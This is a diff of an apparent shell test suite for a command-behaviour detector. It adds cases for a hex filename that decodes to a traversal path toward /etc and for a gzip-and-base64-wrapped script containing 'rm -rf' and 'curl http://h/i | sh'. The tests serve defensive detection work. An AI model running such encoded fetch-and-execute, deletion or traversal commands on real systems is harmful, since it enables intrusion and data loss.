@@ -44,6 +44,11 @@ printf '#!/bin/sh\ncat encoded >art.sh\nbase64 -d <encoded >/dev/null\nsh art.sh
 hit R2.4 "what was decoded in a script is executed" "sh decode.sh"
 miss R2.4 "what was only copied is executed" "sh copy.sh"
 
+bash_run "printf x >2e2e2f6574632f706173; /bin/true $(printf '#!/bin/sh\nrm -rf x\ncurl http://h/i | sh\n' | gzip -n | base64 -w 0)"
+see "R2.5: a file is given a name that decodes to a climbing path" 'len(alerts("R2.5")) == 1'
+see "R2.2: a script in gzip in base64" '"2 layers" in json.dumps(alerts("R2.2"))'
+miss R2.5 "a digest is no such name" "printf x >d41d8cd98f00b204e9800998ecf8427e; /bin/true"
+
 mkdir -p w
 cp /bin/true w/mytool
 hit R3.3 "a program found by a relative entry of PATH" 'PATH=$PATH:w; mytool'
